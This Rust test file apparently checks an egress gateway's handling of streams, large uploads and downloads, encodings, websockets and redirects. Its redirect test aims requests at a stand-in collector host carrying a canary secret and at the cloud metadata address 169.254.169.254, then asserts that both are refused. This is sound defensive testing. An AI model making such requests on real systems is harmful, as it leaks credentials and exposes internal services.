//! Bodies and connections as real clients use them: streams that arrive as they are sent, large ones, encoded ones,
//! redirects, and protocols that are refused in words.

use serde_json::Value;

use crate::world::{CANARY, Person, REAL_KEY, World};
use crate::{Case, case_with};

/// SHA-256 of the first 64 MiB of the provider's `/bytes` with seed 7.
const BYTES_64_MIB_SEED_7: &str = "4d5594a6496cfe96502c6d52d756d0f35a0b861260a4350761bac3f94c4e0ce8";

pub fn cases() -> Vec<Case> {
    vec![
        case_with("a model's stream arrives event by event", &["/usr/bin/python3"], stream_arrives_as_it_is_sent),
        case_with("64 MiB come down unchanged", &["curl"], large_download),
        case_with("64 MiB go up unchanged", &["curl"], large_upload),
        case_with("an encoded answer is decoded by the client as if nobody stood between", &["curl"], encoded_answers),
        case_with("a client that waits for 100 Continue sends its body", &["curl"], expect_continue),
        case_with("sixty requests at once over one HTTP/2 connection are all answered", &["curl"], many_at_once),
        case_with("an answer that breaks off upstream breaks off for the client", &["curl"], broken_answers),
        case_with("HEAD, ranges, HTTP/1.0, bodies of unknown length and kept connections work", &["curl"], forms),
        case_with(
            "a client that leaves in the middle of a stream closes it upstream",
            &["/usr/bin/python3"],
            client_leaves,
        ),
        case_with("B24 a websocket is refused in words", &["curl"], websocket),
        case_with("B33 a followed redirect is a new decision, and no credential goes along", &["curl"], redirects),
    ]
}

fn stream_arrives_as_it_is_sent(person: Person) {
    let world = World::new(person);
    let ran = world
        .run(&[
            "/usr/bin/python3",
            "-c",
            "import json, os, time, urllib.request\n\
             h = {'x-api-key': os.environ['ANTHROPIC_API_KEY'], 'anthropic-version': '2023-06-01', 'x-sim-fault': 'pace-ms=100'}\n\
             b = {'model': 'm', 'max_tokens': 64, 'stream': True, 'messages': [{'role': 'user', 'content': 'hi'}]}\n\
             q = urllib.request.Request('https://api.anthropic.com/v1/messages', json.dumps(b).encode(), h)\n\
             at = []\n\
             for line in urllib.request.urlopen(q):\n\
             \x20   if line.startswith(b'event:'): at.append(time.monotonic())\n\
             gaps = [b - a for a, b in zip(at, at[1:])]\n\
             print(json.dumps({'events': len(at), 'seconds': at[-1] - at[0], 'longest': max(gaps)}))",
        ])
        .expect_code(0);
    let seen: Value = serde_json::from_str(&ran.stdout).unwrap();
    let events = seen["events"].as_f64().unwrap();
    // Each event waits 100 ms at the provider: had the stream been held back, all would come at once.
    assert!(events > 10.0, "{seen}");
    assert!(seen["seconds"].as_f64().unwrap() > 0.08 * (events - 1.0), "{seen}");
    assert!(seen["longest"].as_f64() < seen["seconds"].as_f64().map(|all| all / 2.0), "{seen}");
}

fn large_download(person: Person) {
    let world = World::new(person);
    let ran = world.sh("curl -sS 'https://notes.example/bytes/67108864?seed=7' | sha256sum").expect_code(0);
    assert_eq!(ran.stdout.split_whitespace().next(), Some(BYTES_64_MIB_SEED_7));
    assert_eq!(ran.summary["bytes_in"], 64 << 20);
}

fn large_upload(person: Person) {
    let world = World::new(person);
    let script = "head -c 67108864 /dev/urandom >big && sha256sum <big && \
                  curl -sS -X POST -T big -H 'content-type: application/octet-stream' https://notes.example/sink";
    let ran = world.sh(script).expect_code(0);
    let (sum, answer) = ran.stdout.split_once('\n').unwrap();
    let answer: Value = serde_json::from_str(answer).unwrap();
    assert_eq!(answer["bytes"], 64 << 20);
    assert_eq!(answer["sha256"].as_str(), sum.split_whitespace().next());
    assert_eq!(ran.summary["bytes_out"], 64 << 20);
}

fn encoded_answers(person: Person) {
    let world = World::new(person);
    let script = "for e in gzip deflate identity; do curl -sS --fail --compressed \"https://notes.example/page/clean?encoding=$e\" || exit; done";
    let ran = world.sh(script).expect_code(0);
    assert_eq!(ran.stdout.matches("<h1>Growing tomatoes</h1>").count(), 3, "{}", ran.stdout);
}

fn expect_continue(person: Person) {
    let world = World::new(person);
    let script = "head -c 2000000 /dev/zero | tr '\\0' x >body && curl -sS --http1.1 -v -H 'Expect: 100-continue' \
                  --data-binary @body https://notes.example/sink";
    let ran = world.sh(script).expect_code(0);
    let answer: Value = serde_json::from_str(&ran.stdout).unwrap();
    assert_eq!(answer["bytes"], 2_000_000);
    assert!(ran.stderr.contains("< HTTP/1.1 100 Continue"), "{}", ran.stderr);
}

fn websocket(person: Person) {
    let world = World::new(person);
    let script = "curl -sS --http1.1 -i -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
                  -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' https://notes.example/echo";
    let ran = world.sh(script).expect_code(0);
    assert!(
        ran.stdout.contains("HTTP/1.1 426") && ran.stdout.contains("x-carboy-reason: protocol_refused"),
        "{}",
        ran.stdout
    );
    assert_eq!(ran.refused("protocol_refused"), 1);
    assert_eq!(world.provider.requests(), 0);
}

fn redirects(person: Person) {
    let world = World::new(person);
    let to =
        |host: &str, url: &str| format!("curl -sS -L -w ' %{{http_code}}\\n' 'https://{host}/redirect?to={url}'; ");
    let script = [
        to("notes.example", "https%3A%2F%2Fa.wild.example%2Fpage%2Fclean"),
        to("api.anthropic.com", "https%3A%2F%2Fnotes.example%2Fecho"),
        to("notes.example", &format!("https%3A%2F%2Fcollector.example%2F{CANARY}")),
        to("notes.example", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ];
    let ran = world.sh(&(script.concat() + "true")).expect_code(0);
    // One that is allowed is followed, by the client and not by the gateway.
    assert!(ran.stdout.contains("</html>\n 200\n"), "{}", ran.stdout);
    let received = world.provider.received();
    let paths: Vec<_> = received.iter().map(|r| (r.authority.as_str(), r.path.split('?').next().unwrap())).collect();
    assert_eq!(
        paths,
        [
            ("notes.example", "/redirect"),
            ("a.wild.example", "/page/clean"),
            ("api.anthropic.com", "/redirect"),
            ("notes.example", "/echo"),
            ("notes.example", "/redirect"),
            ("notes.example", "/redirect"),
        ]
    );
    // The key went to the one host that it belongs to.
    let key: Vec<bool> = received.iter().map(|request| request.contains(REAL_KEY.as_bytes())).collect();
    assert_eq!(key, [false, false, true, false, false, false]);
    // The others are refused like any request: a name that does not resolve, an address with a reason.
    assert!(ran.stderr.contains("Could not resolve host: collector.example"), "{}", ran.stderr);
    assert!(ran.stdout.contains("address_not_allowed"), "{}", ran.stdout);
    assert!(ran.refused("name_not_allowed") >= 1 && ran.refused("address_not_allowed") >= 1, "{:?}", ran.summary);
    assert!(world.canary.is_untouched());
}

fn many_at_once(person: Person) {
    let world = World::new(person);
    let script = "curl -sS -Z --parallel-max 60 --http2 'https://notes.example/bytes/20000?seed=[1-60]' | wc -c";
    let ran = world.sh(script).expect_code(0);
    assert_eq!(ran.stdout.trim(), "1200000", "{}", ran.stderr);
    assert_eq!(world.provider.requests(), 60);
    assert_eq!(ran.summary["refusals"], Value::Array(vec![]));
}

fn broken_answers(person: Person) {
    let world = World::new(person);
    // A page that is judged as a whole has not begun yet: the client is told in words.
    let page = "curl -sS -w '\\n%{http_code}' -H 'x-sim-fault: truncate-at=100' https://notes.example/page/clean";
    let ran = world.sh(page).expect_code(0);
    assert!(ran.stdout.contains("upstream_failed") && ran.stdout.ends_with("\n502"), "{}", ran.stdout);
    // A stream has: it must not end as if it were whole, and what came before is not lost.
    let call = r#"{"model":"m","max_tokens":64,"stream":true,"messages":[{"role":"user","content":"hi"}]}"#;
    for (version, code) in [("http1.1", "18"), ("http2", "92")] {
        let script = format!(
            "curl -sSN --{version} -H 'x-sim-fault: drop-after=4' -H \"x-api-key: $ANTHROPIC_API_KEY\" \
             -H 'anthropic-version: 2023-06-01' -d '{call}' https://api.anthropic.com/v1/messages; echo \"curl $?\""
        );
        let ran = world.sh(&script).expect_code(0);
        assert!(ran.stdout.ends_with(&format!("curl {code}\n")), "{version}: {}", ran.stdout);
        assert_eq!(ran.stdout.matches("event: ").count(), 4, "{version}: {}", ran.stdout);
    }
}

fn forms(person: Person) {
    let world = World::new(person);
    let ran = world.sh("curl -sS -I https://notes.example/page/clean").expect_code(0);
    assert!(
        ran.stdout.contains(" 200") && ran.stdout.contains("content-type: text/html") && !ran.stdout.contains("<html"),
        "{}",
        ran.stdout
    );
    let ran = world.sh("curl -sS --http1.0 https://notes.example/page/clean").expect_code(0);
    assert!(ran.stdout.ends_with("</html>\n"), "{}", ran.stdout);
    // A body of unknown length: chunked in HTTP/1.1, without a length in HTTP/2.
    for version in ["--http1.1", "--http2"] {
        let ran =
            world.sh(&format!("seq 1 100000 | curl -sS {version} -T - https://notes.example/sink")).expect_code(0);
        let answer: Value = serde_json::from_str(&ran.stdout).unwrap();
        assert_eq!(answer["bytes"], 588_895, "{version}");
    }
    // One connection for several requests, and several hosts with one each.
    let script = "curl -sS -o /dev/null -w '%{num_connects} ' --http1.1 https://notes.example/page/clean \
                  -: -sS -o /dev/null -w '%{num_connects} ' --http1.1 https://notes.example/page/clean \
                  -: -sS -o /dev/null -w '%{num_connects}' --http1.1 https://a.wild.example/page/clean";
    assert_eq!(world.sh(script).expect_code(0).stdout, "1 0 1");
    let ran = world.sh("curl -sS -r 0-9 https://notes.example/page/clean; curl -sS -w '%{http_code}' https://notes.example/nothing -o /dev/null");
    assert!(ran.stdout.starts_with("<!doctype ") && ran.stdout.ends_with("404"), "{}", ran.stdout);
}

fn client_leaves(person: Person) {
    let world = World::new(person);
    let program = "import json, os, urllib.request\n\
        h = {'x-api-key': os.environ['ANTHROPIC_API_KEY'], 'anthropic-version': '2023-06-01', 'x-sim-fault': 'pace-ms=300'}\n\
        b = {'model': 'm', 'max_tokens': 64, 'stream': True, 'messages': [{'role': 'user', 'content': 'hi'}]}\n\
        r = urllib.request.urlopen(urllib.request.Request('https://api.anthropic.com/v1/messages', json.dumps(b).encode(), h))\n\
        print(r.readline().decode())\n\
        r.close()";
    let started = std::time::Instant::now();
    let ran = world.run(&["/usr/bin/python3", "-c", program]).expect_code(0);
    assert!(ran.stdout.starts_with("event: message_start"), "{}", ran.stdout);
    // The stream would have taken five seconds and more; nobody waits for its end, and it is in the log as it was.
    assert!(started.elapsed() < std::time::Duration::from_secs(4), "{:?}", started.elapsed());
    let answers: Vec<_> = ran.entries.iter().filter(|entry| entry.text("action") == Some("answer")).collect();
    assert_eq!(answers.len(), 1, "{:?}", ran.entries);
    assert!(world.provider.bill().output < 10, "{:?}", world.provider.bill());
}
